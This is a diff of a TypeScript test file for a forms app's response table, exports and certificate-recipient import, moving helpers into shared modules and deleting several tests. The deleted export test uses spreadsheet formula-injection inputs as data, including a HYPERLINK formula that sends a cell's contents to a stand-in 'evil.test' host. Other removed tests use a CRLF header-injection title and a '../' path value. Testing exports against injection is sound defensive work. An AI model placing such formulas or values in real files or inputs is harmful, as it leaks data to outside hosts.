@@ -1,18 +1,16 @@
-import * as XLSX from "@e965/xlsx";
-import Papa from "papaparse";
 import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
 import type { Answers, FormElement } from "../../app/forms/definition.ts";
 import type { Form } from "../../app/forms/find-form.server.ts";
 import { publishForm } from "../../app/forms/publish-form.server.ts";
-import { newId } from "../../app/ids.ts";
-import { addResponseFile, addResponses } from "../factories/form-responses.ts";
+import { addResponseFile, addResponses, person } from "../factories/form-responses.ts";
 import { addPublishedForm, contactQuestions, element } from "../factories/published-form.ts";
+import { csvAt } from "../setup/csv-at.ts";
+import { wordsOf } from "../setup/fill-form.ts";
 import { startApp, type TestApp } from "../setup/start-app.ts";
 
 type Organiser = Awaited<ReturnType<TestApp["organiser"]>>;
 
 const NOW = new Date("2026-03-10T11:00:00.000Z");
-const FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"Click")';
 
 let app: TestApp;
 let owner: Organiser;
@@ -37,24 +35,6 @@ const addForm = (elements: FormElement[]) => addPublishedForm(app.installation, 
 function track(options = ["Data", "Design", "Writing"]): FormElement {
   return element("single-choice", { id: "trackabc", label: "Which track?", settings: { options } });
 }
-
-const person = (first: string, last: string, more: Answers = {}): Answers => ({
-  fullname: { first, last },
-  emailadr: `${first
-    .normalize("NFD")
-    .replace(/[^A-Za-z]/g, "")
-    .toLowerCase()}@people.test`,
-  ...more,
-});
-
-/** The words of a page, without tags and with single spaces. */
-const wordsOf = (html: string) =>
-  html
-    .replaceAll("<!-- -->", "")
-    .replace(/<script[\s\S]*?<\/script>/g, "")
-    .replace(/<[^>]+>/g, " ")
-    .replace(/&#x27;/g, "'")
-    .replace(/\s+/g, " ");
 
 /** Names in the table, top to bottom. */
 async function namesAt(query: string): Promise<string[]> {
@@ -150,7 +130,7 @@ test("answers stay with their version: what is no longer asked comes after what 
   for (const text of ["Which track?", "Where do you work?", "Zenith", "1 of 2"]) expect(old).toContain(text);
   expect(old).not.toContain("Your town");
 
-  const sheet = await csvAt(`${base}/export.csv`);
+  const sheet = await csvAt(owner, `${base}/export.csv`);
   expect(sheet[0]!.slice(3)).toEqual([
     ...["Your town", "First name", "Last name", "Email Address", "Your track", "Where do you work? (no longer asked)", "Version"],
   ]);
@@ -215,93 +195,6 @@ test("another account sees none of it", async () => {
   expect((await stranger.get(`/forms/${other.id}/responses/${id}`)).status).toBe(404);
   await stranger.post(`/forms/${other.id}/responses/delete?id=${id}`, {});
   expect(await countOf()).toBe(1);
-});
-
-async function csvAt(path: string): Promise<string[][]> {
-  const answer = await owner.get(path);
-  expect([answer.status, answer.headers.get("Content-Type")]).toEqual([200, "text/csv; charset=utf-8"]);
-  const bytes = Buffer.from(await answer.arrayBuffer());
-  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-  const { data, errors } = Papa.parse<string[]>(bytes.toString("utf8").slice(1), { skipEmptyLines: true });
-  expect(errors).toEqual([]);
-  return data;
-}
-
-async function sheetAt(path: string): Promise<XLSX.WorkSheet> {
-  const answer = await owner.get(path);
-  expect([answer.status, answer.headers.get("Content-Type")]).toEqual([
-    200,
-    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
-  ]);
-  const book = XLSX.read(Buffer.from(await answer.arrayBuffer()), { cellFormula: true });
-  return book.Sheets[book.SheetNames[0]!]!;
-}
-
-test("C24 both spreadsheets hold what was answered, as text: no formula, and phone numbers keep plus and zeros", async () => {
-  const phone = element("short-text", { id: "phoneabc", label: "=Phone" });
-  form = await addForm([...contactQuestions(), phone]);
-  base = `/forms/${form.id}/responses`;
-  const texts = [
-    FORMULA,
-    "+2348031234567",
-    "0803",
-    "-1+2",
-    "@SUM(A1)",
-    "＝1",
-    "a\r\nb",
-    'He said "hi", twice',
-    "_x0041_ \u0001\ud800 & <b>",
-    "007",
-  ];
-  await addResponses(
-    app.installation,
-    form.id,
-    texts.map((text, n) => ({
-      answers: person(`P${n}`, "Ọkọ́", { employer: text, phoneabc: text }),
-      at: "2026-03-04T22:30:00.000Z",
-    })),
-  );
-  const sheet = await csvAt(`${base}/export.csv`);
-  expect(sheet).toHaveLength(texts.length + 1);
-  expect(sheet[0]).toEqual([
-    ...["No.", "Reference", "Sent in (Lagos time)", "First name", "Last name", "Email Address", "Where do you work?", "'=Phone"],
-  ]);
-  expect(sheet[1]!.slice(2, 6)).toEqual(["2026-03-04 23:30", "P0", "Ọkọ́", "p@people.test"]);
-  for (const row of sheet) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d]/);
-  expect(sheet[1]![6]).toBe(`'${FORMULA}`);
-
-  const workbook = await sheetAt(`${base}/export.xlsx`);
-  const rows = XLSX.utils.sheet_to_json<string[]>(workbook, { header: 1, raw: true });
-  expect(rows[0]!.slice(-1)).toEqual(["=Phone"]);
-  const kept = texts.map((text) => text.replace(/[\u0001\ud800]/g, "").replace("\r\n", "\n"));
-  expect(rows.slice(1).map((row) => row[6])).toEqual(kept);
-  expect(rows.slice(1).map((row) => row[7])).toEqual(kept);
-  expect(rows[1]![0]).toBe(1);
-  for (const [at, cell] of Object.entries(workbook) as [string, XLSX.CellObject][])
-    if (!at.startsWith("!")) expect([at, cell.f, cell.t]).toEqual([at, undefined, at.startsWith("A") && at !== "A1" ? "n" : "s"]);
-});
-
-test("a spreadsheet holds what the table shows, in whatever name a form has", async () => {
-  await app.installation.db
-    .updateTable("forms")
-    .set({ title: 'Ọjọ́: "best" [form]/2026?\r\nX: y' })
-    .where("id", "=", form.id)
-    .execute();
-  await addResponses(
-    app.installation,
-    form.id,
-    Array.from({ length: 1203 }, (_, n) => ({ answers: person(`P${n}`, "X", { trackabc: n % 3 ? "Data" : "Design" }) })),
-  );
-  const query = "?q=trackabc&is=Design";
-  const numbers = Array.from({ length: 401 }, (_, n) => String(n * 3 + 1));
-  expect((await csvAt(`${base}/export.csv${query}`)).slice(1).map(([number]) => number)).toEqual(numbers);
-  const rows = XLSX.utils.sheet_to_json<string[]>(await sheetAt(`${base}/export.xlsx${query}`), { header: 1 });
-  expect(rows.slice(1).map(([number]) => String(number))).toEqual(numbers);
-  expect(wordsOf(await owner.page(base + query))).toContain("of 401 responses");
-  const answer = await owner.get(`${base}/export.xlsx`);
-  expect(answer.headers.get("Content-Disposition")).not.toMatch(/[\r\n]/);
-  expect(answer.headers.get("X")).toBeNull();
-  await answer.arrayBuffer();
 });
 
 test("deleting asks, says how many, removes files too, and keeps the count right", async () => {
@@ -378,108 +271,3 @@ test("the summary counts every answer, draws it, and says the same in a table", 
   expect(words).toContain("4 Mar 2026 1 5 Mar 2026 2");
   expect(wordsOf(await owner.page(`${base}/summary?q=trackabc&is=Design`))).toContain("1 of 3 responses match the filter");
 });
-
-test("answers become recipients of a new certificate: guessed, checked, added once, and matched the same way next time", async () => {
-  await addResponses(app.installation, form.id, [
-    { answers: person("Fúnmiláyọ̀", "Adébáyọ̀", { employer: "Zenith" }) },
-    { answers: person("Fúnmiláyọ̀", "Adébáyọ̀", { employer: "Again" }) },
-    { answers: { fullname: { first: "Ada", last: "Obi" } } },
-    { answers: { emailadr: "nameless@people.test" } },
-    { answers: person("Musa", "", { employer: "One name" }) },
-    { answers: { ...person("Typo", "X"), emailadr: "typo@gmial.com" } },
-  ]);
-  const { db } = app.installation;
-  const path = `${base}/recipients`;
-  const html = await owner.page(path);
-  const fields = selected(html);
-  expect(fields).toMatchObject({
-    "use-0": "firstName",
-    "use-1": "lastName",
-    "use-2": "skip",
-    "use-3": "email",
-    "use-5": "skip",
-  });
-  expect(Object.values(fields)).toContain("field:Where do you work?");
-
-  const none = await owner.post(path, { ...fields, "use-3": "skip", intent: "check" });
-  expect(none.status).toBe(422);
-  const problems = wordsOf(await none.text());
-  expect(problems).toContain("used as Email Address");
-  expect(problems).toContain("Tick this if it is so");
-
-  const wish = { ...fields, target: "new-project", title: "CV class", consent: "yes", token: "t1" };
-  const check = await owner.post(path, { ...wish, intent: "check" });
-  expect(check.status).toBe(200);
-  const report = wordsOf(await check.text());
-  expect(report).toContain("To add 3 There already 1 Left out 2");
-  expect(report).toContain("No e-mail address was given");
-  expect(report).toContain("The name is missing");
-  expect(await db.selectFrom("recipients").select("id").execute()).toEqual([]);
-
-  const added = await owner.post(path, { ...wish, intent: "add" });
-  const location = added.headers.get("Location")!;
-  expect([added.status, location]).toEqual([303, expect.stringMatching(/^\/certificates\/\w+\/recipients$/)]);
-  const people = wordsOf(await owner.page(location));
-  expect(people).toContain("3 people were added to CV class. 1 was there already. 2 were left out");
-  for (const text of ["Fúnmiláyọ̀", "Adébáyọ̀", "typo@gmial.com", "musa@people.test"]) expect(people).toContain(text);
-  const rows = await db.selectFrom("recipients").select(["firstName", "fields", "searchText"]).orderBy("position").execute();
-  expect(rows[0]).toEqual({
-    firstName: "Fúnmiláyọ̀",
-    fields: JSON.stringify({ "Where do you work?": "Zenith" }),
-    searchText: "funmilayo adebayo funmilayo@people.test",
-  });
-  // The button pressed twice makes one project.
-  expect((await owner.post(path, { ...wish, intent: "add" })).headers.get("Location")).toBe(location);
-  expect(await db.selectFrom("recipients").select("id").execute()).toHaveLength(3);
-
-  const changed = { ...wish, "use-4": "certificateName", token: "t2", target: `project:${location.split("/")[2]}` };
-  const again = await owner.post(path, { ...changed, intent: "add" });
-  expect(again.headers.get("Location")).toBe(location);
-  expect(wordsOf(await owner.page(location))).toContain("Nobody was added to CV class. 4 were there already.");
-  expect(selected(await owner.page(path))).toMatchObject({ "use-4": "certificateName" });
-});
-
-test("only those ticked, or found, become recipients, of a saved list too; another account's project is not there", async () => {
-  const ids = await addResponses(app.installation, form.id, [
-    { answers: person("One", "A", { trackabc: "Data" }) },
-    { answers: person("Two", "B", { trackabc: "Design" }) },
-    { answers: person("Three", "C", { trackabc: "Data" }) },
-  ]);
-  const { db } = app.installation;
-  const fields = { ...selected(await owner.page(`${base}/recipients`)), consent: "yes", title: "Mail list", intent: "add" };
-  const post = (query: string, more: Record<string, string>) => owner.post(`${base}/recipients?${query}`, { ...fields, ...more });
-  const made = await post("all=1&q=trackabc&is=Data", { target: "new-list", token: newId() });
-  expect(made.headers.get("Location")).toBe(base);
-  const list = await db
-    .selectFrom("recipientLists")
-    .select(["id", "columns"])
-    .where("name", "=", "Mail list")
-    .executeTakeFirstOrThrow();
-  const names = async () =>
-    (await db.selectFrom("recipients").select("firstName").where("listId", "=", list.id).orderBy("position").execute()).map(
-      ({ firstName }) => firstName,
-    );
-  expect(await names()).toEqual(["One", "Three"]);
-  expect(JSON.parse(list.columns)).toContain("Which track?");
-  await post(`id=${ids[1]}&id=${ids[0]}`, { target: `list:${list.id}`, token: newId() });
-  expect(await names()).toEqual(["One", "Three", "Two"]);
-
-  const theirs = newId();
-  await db
-    .insertInto("recipientLists")
-    .values({ id: theirs, accountId: stranger.accountId, name: "T", columns: "[]", createdAt: "x", updatedAt: "x" })
-    .execute();
-  for (const intent of ["check", "add"])
-    expect((await post("", { target: `list:${theirs}`, token: newId(), intent })).status).toBe(404);
-  expect((await post("", { target: "list:../x", token: newId() })).status).toBe(422);
-});
-
-/** The chosen option of each select whose name begins with `use-`, as a form would post it. */
-function selected(html: string): Record<string, string> {
-  const fields: Record<string, string> = {};
-  for (const [, name, options] of html.matchAll(/<select[^>]* name="(use-\d+)"[^>]*>([\s\S]*?)<\/select>/g)) {
-    const chosen = /<option selected="" value="([^"]*)"|<option value="([^"]*)" selected=""/.exec(options!);
-    fields[name!] = chosen?.[1] ?? chosen?.[2] ?? "";
-  }
-  return fields;
-}
